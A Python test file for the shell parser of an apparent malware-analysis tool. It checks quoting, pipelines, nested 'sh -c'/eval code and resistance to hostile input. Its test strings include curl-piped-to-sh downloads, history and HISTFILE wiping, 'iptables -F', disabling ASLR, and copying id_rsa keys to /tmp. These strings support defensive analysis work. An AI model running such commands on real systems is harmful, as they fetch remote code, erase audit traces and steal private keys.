"""The shell parser: what it reads out of scripts, and bounded work on hostile text."""

from __future__ import annotations

import random

import pytest

# tests/unit is on sys.path (pytest rootdir insertion): the work counter of the processing
# tests is importable as the package pytest gives it.
from processing.work import grows_linearly, lines_run  # type: ignore[import-not-found]

from aasee.processing.report import report_dict, validate_report
from aasee.processing.static.models import StaticAnalysis
from aasee.processing.static.scripts import analyse_script
from aasee.processing.static.shell import (
    MAX_ARGS,
    MAX_COMMANDS,
    MAX_WORD,
    ShellCommand,
    parse_script,
    shell_code,
    unwrap,
)


def argvs(text: str) -> list[list[str]]:
    return [list(c.argv) for c in parse_script(text).commands]


def only(text: str) -> ShellCommand:
    (command,) = parse_script(text).commands
    return command


class TestWords:
    @pytest.mark.parametrize(
        ("text", "argv"),
        [
            ("echo a b\tc", ["echo", "a", "b", "c"]),
            ("echo 'a b' \"c d\" e\\ f", ["echo", "a b", "c d", "e f"]),
            ("echo 'it''s'", ["echo", "its"]),
            ('echo "a \\"b\\" \\$c \\\\ \\n"', ["echo", 'a "b" $c \\ \\n']),
            ("echo $'a\\tb\\x41\\101\\n'", ["echo", "a\tbAA\n"]),
            ('echo $"x"', ["echo", "x"]),
            ("echo a\\\nb", ["echo", "ab"]),
            ("echo a#b # comment", ["echo", "a#b"]),
            ("echo $HOME ${USER} $1 $@ $?", ["echo", "$HOME", "${USER}", "$1", "$@", "$?"]),
            ("echo $((1 + (2 * 3)))", ["echo", "$((1 + (2 * 3)))"]),
            ("echo ${x:-$(id)}", ["echo", "${x:-$(id)}"]),
            ("echo a\rb\r", ["echo", "a", "b"]),
        ],
    )
    def test_quoting_and_expansions(self, text: str, argv: list[str]) -> None:
        assert argvs(text)[-1] == argv

    def test_plain_variables_the_script_set_are_substituted(self) -> None:
        script = (
            "stage=/tmp/stage2\n"
            '"$stage" --run\n'
            "out=$(date)\n"
            "echo $out ${stage}\n"
            "unset stage\n"
            "echo $stage\n"
            "for stage in a b; do :; done\n"
        )
        got = argvs(script)
        assert ["/tmp/stage2", "--run"] in got
        assert ["echo", "$out", "/tmp/stage2"] in got  # a value still holding $(...) is unknown
        assert got[-2] == ["echo", "$stage"] or ["echo", "$stage"] in got

    def test_words_and_argument_counts_are_capped(self) -> None:
        long_word = only("echo " + "a" * (MAX_WORD + 50))
        assert len(long_word.argv[1]) == MAX_WORD and long_word.argv_truncated
        many = only("echo" + " x" * (MAX_ARGS + 10))
        assert len(many.argv) == MAX_ARGS and many.argv_truncated


class TestStructure:
    def test_lists_pipelines_and_background(self) -> None:
        commands = parse_script("a | b |& c; d && e || f & g\nh").commands
        shape = [(c.argv[0], c.stage, c.background) for c in commands]
        assert shape == [
            ("a", 0, False),
            ("b", 1, False),
            ("c", 2, False),
            ("d", 0, False),
            ("e", 0, False),
            ("f", 0, True),
            ("g", 0, False),
            ("h", 0, False),
        ]
        assert len({c.pipeline for c in commands[:3]}) == 1
        assert len({c.pipeline for c in commands[3:]}) == 5

    def test_redirections(self) -> None:
        command = only("cmd >out 2>&1 <in >>log &>all 3<>rw 2>/dev/null <<<word")
        assert [(r.op, r.fd, r.target) for r in command.redirects] == [
            (">", None, "out"),
            (">&", 2, "1"),
            ("<", None, "in"),
            (">>", None, "log"),
            ("&>", None, "all"),
            ("<>", 3, "rw"),
            (">", 2, "/dev/null"),
            ("<<<", None, "word"),
        ]
        assert command.argv == ("cmd",)
        bare = only("> /var/log/auth.log")
        assert bare.kind == "redirection" and bare.redirects[0].target == "/var/log/auth.log"

    def test_compound_commands_give_their_bodies(self) -> None:
        script = (
            "if [ -f /etc/x ]; then cat /etc/x; elif true; then :; else echo no; fi\n"
            "while read l; do echo $l; done < /etc/hosts\n"
            "until false; do break; done\n"
            "for f in /tmp/*; do rm $f; done\n"
            "for ((i = 0; i < 3; i++)); do ping -c1 h$i; done\n"
            "select o in a b; do echo $o; done\n"
            'case "$1" in\n  start|go) echo start ;;\n  (stop) kill 1 ;;\n  *) exit 1 ;;\nesac\n'
            "{ id; uname; } > /tmp/x\n"
            "( cd /tmp && ls )\n"
            "[[ -n $x && $x == a* ]] && echo yes\n"
            "(( n = 3 + 4 )) || echo arithmetic\n"
            "! grep -q x /etc/passwd\n"
            "time sleep 1\n"
        )
        # A compound command's own redirections come as a command of only redirections.
        names = [c.argv[0] if c.argv else ">" for c in parse_script(script).commands]
        assert names == [
            "[", "cat", "true", ":", "echo", "read", "echo", ">", "false", "break", "rm", "ping",
            "echo", "echo", "kill", "exit", "id", "uname", ">", "cd", "ls", "[[", "echo", "echo",
            "grep", "sleep",
        ]  # fmt: skip

    def test_functions(self) -> None:
        parsed = parse_script(
            'f() {\n  rm -f "$1"\n}\nfunction g { echo hi; }\nfunction h() ( id )\nf /tmp/x\ng\n'
        )
        assert parsed.functions == ("f", "g", "h")
        contexts = [(c.argv[0], c.context, c.kind) for c in parsed.commands]
        assert contexts == [
            ("rm", "function f", "program"),
            ("echo", "function g", "builtin"),
            ("id", "function h", "program"),
            ("f", "", "function"),
            ("g", "", "function"),
        ]

    def test_kinds_and_lines(self) -> None:
        script = "#!/bin/sh\nHISTFILE=/dev/null\nhistory -c\nls \\\n  -la\n\nid\n"
        commands = parse_script(script).commands
        assert [(c.kind, c.line) for c in commands] == [
            ("assignment", 2),
            ("builtin", 3),
            ("program", 4),
            ("program", 7),
        ]
        assert commands[0].assignments == ("HISTFILE=/dev/null",) and commands[0].argv == ()
        arrays = only("a=(one two 'three four') b[1]=x c+=y")
        assert arrays.assignments == ("a=(one two 'three four')", "b[1]=x", "c+=y")

    def test_substitutions_are_parsed_in_place(self) -> None:
        commands = parse_script(
            "x=$(curl -s http://h/a | base64 -d)\necho `whoami` <(ls) >(cat)"
        ).commands
        shape = [(c.argv[0] if c.argv else "=", c.context, c.depth) for c in commands]
        assert shape == [
            ("curl", "$(...)", 1),
            ("base64", "$(...)", 1),
            ("=", "", 0),
            ("whoami", "`...`", 1),
            ("ls", "<(...)", 1),
            ("cat", ">(...)", 1),
            ("echo", "", 0),
        ]


class TestCodeHandedOn:
    @pytest.mark.parametrize(
        ("text", "inner", "context"),
        [
            ("sh -c 'history -c; id'", ["history", "id"], "sh -c"),
            ('bash -ec "unset HISTFILE"', ["unset"], "sh -c"),
            (
                "sudo -u root sh -c 'echo 0 > /proc/sys/kernel/randomize_va_space'",
                ["echo"],
                "sh -c",
            ),
            ("env A=1 nohup timeout 5 bash -c 'iptables -F'", ["iptables"], "sh -c"),
            ("xargs -I{} sh -c 'cp {} /tmp/s'", ["cp"], "sh -c"),
            ("find / -name id_rsa -exec sh -c 'cp \"$1\" /tmp/k' _ {} \\;", ["cp"], "sh -c"),
            ("su -c 'useradd x' root", ["useradd"], "su -c"),
            ('eval "unset HISTFILE; set +o history"', ["unset", "set"], "eval"),
            ("trap 'curl -s http://h/x | sh' EXIT", ["curl", "sh"], "trap"),
            ("bash <<'EOF'\nhistory -c\nEOF", ["history"], "here-document"),
            ("cat <<EOF | sh\nuname -a\nEOF", ["uname"], "here-document"),
        ],
    )
    def test_nested_code(self, text: str, inner: list[str], context: str) -> None:
        commands = parse_script(text).commands
        nested = [c.argv[0] for c in commands if c.context == context]
        assert nested == inner
        assert all(c.depth == 1 and c.line == 1 for c in commands if c.context == context)

    def test_documents_not_read_by_a_shell_stay_data(self) -> None:
        commands = parse_script(
            "cat > /etc/cron.d/x <<EOF\n* * * * * root id\nEOF\n"
            "python3 - <<'PY'\nimport os\nPY\nls\n"
        ).commands
        assert [c.argv[0] for c in commands] == ["cat", "python3", "ls"]
        assert commands[2].line == 7

    def test_only_a_substitution_is_not_parsed_twice(self) -> None:
        commands = parse_script('sh -c "$(curl -s http://h/x)"').commands
        assert [c.argv[0] for c in commands] == ["curl", "sh"]

    def test_helpers(self) -> None:
        assert unwrap(["sudo", "-u", "root", "env", "A=1", "nice", "-n", "5", "ls", "-l"]) == (
            ["A=1"],
            ["ls", "-l"],
        )
        assert shell_code(["bash", "-xc", "id"]) == ("id", False)
        assert shell_code(["sh", "/tmp/x.sh"]) == (None, False)
        assert shell_code(["sh", "-s"]) == (None, True)
        assert shell_code(["bash"]) == (None, True)
        assert shell_code(["ls", "-c"]) == (None, False)


class TestHostileText:
    """Bounded work and no exception, whatever the text."""

    def test_unterminated_constructs(self) -> None:
        for text in (
            "echo 'abc",
            'echo "abc $(id',
            "echo $'abc\\",
            "echo `id",
            "echo ${x",
            "echo $((1+",
            "cat <<EOF\nno end",
            "case x in a) echo",
            "f() {",
            "if true; then",
            "echo \\",
            "[[ -n x",
            ")))))",
            "'\"`$(",
        ):
            parsed, _ = lines_run(lambda t=text: parse_script(t), 20_000)
            assert isinstance(parsed.commands, tuple)

    def test_nul_bytes_are_text(self) -> None:
        (command,) = parse_script("history\0 -c\0").commands
        assert command.argv == ("history\0", "-c\0")
        assert [c.argv[0] for c in parse_script("echo a\0b; history -c").commands] == [
            "echo",
            "history",
        ]

    def test_deep_nesting_is_skipped_not_recursed(self) -> None:
        for text in (
            "echo " + "$(" * 50_000 + "id" + ")" * 50_000,
            "echo " + "`echo \\" * 3_000,
            "sh -c " + "'sh -c \"" * 3_000,
            '"' + '$("' * 20_000,
            "echo " + "${" * 50_000,
            "(" * 50_000,
            "{ " * 30_000,
            "eval " * 20_000 + "id",
        ):
            parsed, lines = lines_run(lambda t=text: parse_script(t), 3_000_000)
            assert all(c.depth <= 8 for c in parsed.commands)
            assert len(parsed.commands) <= MAX_COMMANDS

    def test_recursion_through_handed_on_code_is_bounded(self) -> None:
        parsed = parse_script("eval " * 40 + "history -c")
        assert max(c.depth for c in parsed.commands) == 8 and parsed.truncated
        text = "id"
        for _ in range(6):
            text = "sh -c " + "'" + text.replace("'", "'\\''") + "'"
        depths = [c.depth for c in parse_script(text).commands]
        assert depths == [0, 1, 2, 3, 4, 5, 6]

    def test_a_megabyte_of_commands_is_cut_at_the_command_bound(self) -> None:
        text = "history -c; " * 90_000
        parsed, lines = lines_run(lambda: parse_script(text), 2_000_000)
        assert len(parsed.commands) == MAX_COMMANDS and parsed.truncated

    def test_a_megabyte_here_document(self) -> None:
        text = "cat <<EOF\n" + "x $(id) `id`\n" * 80_000 + "EOF\nhistory -c\n"
        parsed, _ = lines_run(lambda: parse_script(text), 3_000_000)
        assert [c.argv[0] for c in parsed.commands] == ["cat", "history"]

    def test_a_megabyte_word_and_variable_amplification(self) -> None:
        parsed, _ = lines_run(lambda: parse_script("echo " + "a" * 1_000_000), 200_000)
        assert len(parsed.commands[0].argv[1]) == MAX_WORD
        amplified = "a=" + "x" * 4000 + "\necho " + "$a" * 50_000
        parsed, _ = lines_run(lambda: parse_script(amplified), 3_000_000)
        assert all(len(w) <= MAX_WORD for c in parsed.commands for w in c.argv)

    def test_text_beyond_the_read_limit_is_cut(self) -> None:
        parsed = parse_script("id\n" + "#" * (1 << 20))
        assert parsed.truncated and [c.argv for c in parsed.commands] == [("id",)]

    def test_random_text_never_raises(self) -> None:
        alphabet = "ab $'\"`\\(){}[]<>|&;#=\n\t*?!~-0123456789"
        generator = random.Random(1234)
        for _ in range(300):
            text = "".join(generator.choice(alphabet) for _ in range(generator.randint(0, 400)))
            parse_script(text)

    def test_work_grows_linearly(self) -> None:
        def work(n: int) -> object:
            return parse_script("x=1; echo \"$x\" 'y' $(id) > /tmp/o\n" * n, max_commands=10**6)

        grows_linearly(work, 200)


class TestStaticAnalysis:
    def test_shell_scripts_carry_their_commands(self) -> None:
        info = analyse_script(b"#!/bin/bash\nunset HISTFILE\ncurl -s http://h/x | sh\n")
        assert info is not None and info.language == "shell"
        assert [(c.kind, c.argv[:1]) for c in info.commands] == [
            ("builtin", ["unset"]),
            ("program", ["curl"]),
            ("program", ["sh"]),
        ]
        assert not info.commands_truncated

    def test_other_languages_have_none(self) -> None:
        info = analyse_script(b"#!/usr/bin/python3\nimport os\nos.system('history -c')\n")
        assert info is not None and info.language == "python" and info.commands == []

    def test_the_report_with_commands_validates(self) -> None:
        from aasee.processing.models import Analysis, Report, Sample

        info = analyse_script(b"#!/bin/sh\nexport HISTSIZE=0\nls >/dev/null 2>&1 &\n")
        static = StaticAnalysis(
            name="s", size=1, md5="0" * 32, sha1="0" * 40, sha256="0" * 64, script=info
        )
        report = Report(
            sample=Sample(name="s", size=1, md5="0" * 32, sha1="0" * 40, sha256="0" * 64),
            analysis=Analysis(id="t"),
            static=static,
        )
        validate_report(report_dict(report))
